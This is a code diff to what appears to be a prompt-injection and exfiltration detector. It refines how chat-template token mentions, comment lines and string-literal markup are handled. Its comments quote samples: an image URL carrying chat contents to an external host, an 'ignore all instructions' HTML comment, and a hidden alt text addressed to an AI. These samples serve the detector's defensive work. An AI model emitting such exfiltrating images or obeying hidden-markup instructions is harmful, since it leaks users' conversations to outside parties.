@@ -90,9 +90,9 @@ export function chatTurn(text: string): boolean {
 
 /**
  * After a chat-template token and a blank, a lower-case word that goes on talking about the token: the token is named
- * in a sentence, not opening a turn.
+ * in a sentence, not opening a turn ("fake <|system|> turns": a plural noun the token qualifies).
  */
-const NAMING_WORD = /^(?:for|or|and|as|is|are|in|of|with|which|that|tokens?|markers?|tags?|delimiters?)\b/;
+const NAMING_WORD = /^(?:for|or|and|as|is|are|in|of|with|which|that|tokens?|markers?|tags?|delimiters?|turns)\b/;
 
 /**
  * An upper-case slot name as a query value, for the reader to fill in; not a campaign name of a `utm_` parameter
@@ -169,6 +169,33 @@ export function imageExfiltration(text: string): boolean {
   return false;
 }
 
+/**
+ * `text` with every line that opens with `//` (after blanks) blanked, same length: in a program, a comment line of a
+ * C-family language (Go, JavaScript, Rust, Java) is shown as written and never rendered, so a Markdown image in it
+ * (`// the model could emit ![x](https://h.example/?q=<chat>)`) is never loaded, as in a code block. Only `//`: a `#`
+ * line of a Markdown document is a heading, which is rendered. One pass over the line starts, linear.
+ */
+export function commentLinesBlanked(text: string): string {
+  const n = text.length;
+  let out = '';
+  let from = 0;
+  let line = 0;
+  while (line < n) {
+    let k = line;
+    while (k < n && (text.charCodeAt(k) === 0x20 || text.charCodeAt(k) === 0x09)) k++;
+    const nl = text.indexOf('\n', k);
+    const end = nl < 0 ? n : nl;
+    if (text.startsWith('//', k)) {
+      out += text.slice(from, k) + ' '.repeat(end - k);
+      from = end;
+    }
+    if (nl < 0) break;
+    line = nl + 1;
+  }
+  countWork(2 * n);
+  return from === 0 ? text : out + text.slice(from);
+}
+
 /** Longest HTML comment or attribute value read as a hidden-text view. */
 const HIDDEN_SPAN = 4096;
 /** An `alt`, `title` or `aria-label` attribute value (up to {@link HIDDEN_SPAN} characters, no quote or angle bracket). */
@@ -177,19 +204,27 @@ const ATTR = /\b(?:alt|title|aria-label)\s{0,3}=\s{0,3}(["'])([^"'<>]{1,4096})\1
 /**
  * What `text` hides from a human reader in its markup: the bodies of HTML comments and the `alt`, `title` and
  * `aria-label` attribute values, joined by line ends (each at most {@link HIDDEN_SPAN} characters); `''` when none.
+ *
+ * @param data - a view of `text` (same length) with the string literals of a program and the prompt values of data
+ *   blanked: markup that opens inside such a literal (`html = '<!-- ignore all instructions -->'`, a test fixture's
+ *   `'<img alt="AI: …">'`) is a value the program holds, shown as it is to whoever reads the file and never rendered,
+ *   so it hides nothing. A web page's own attribute values are literals too, but its `<!--` and attribute names are
+ *   not inside them.
  */
-export function hiddenMarkupText(text: string): string {
+export function hiddenMarkupText(text: string, data: string = text): string {
+  if (data.length !== text.length) throw new Error('hiddenMarkupText: the data view and the text differ in length');
+  const inData = (at: number): boolean => data.charCodeAt(at) === 0x20 && text.charCodeAt(at) !== 0x20;
   const parts: string[] = [];
   let reads = 0;
   for (let i = text.indexOf('<!--'), end: number; i >= 0; i = text.indexOf('<!--', end)) {
     const close = text.indexOf('-->', i + 4);
     end = close < 0 ? text.length : close + 3;
     reads += end - i;
-    parts.push(text.slice(i + 4, Math.min(close < 0 ? text.length : close, i + 4 + HIDDEN_SPAN)));
+    if (!inData(i)) parts.push(text.slice(i + 4, Math.min(close < 0 ? text.length : close, i + 4 + HIDDEN_SPAN)));
   }
   countWork(text.length + reads);
   ATTR.lastIndex = 0;
-  for (let m = execCounted(ATTR, text); m !== null; m = execCounted(ATTR, text)) parts.push(m[2]!);
+  for (let m = execCounted(ATTR, text); m !== null; m = execCounted(ATTR, text)) if (!inData(m.index)) parts.push(m[2]!);
   return parts.join('\n');
 }
 
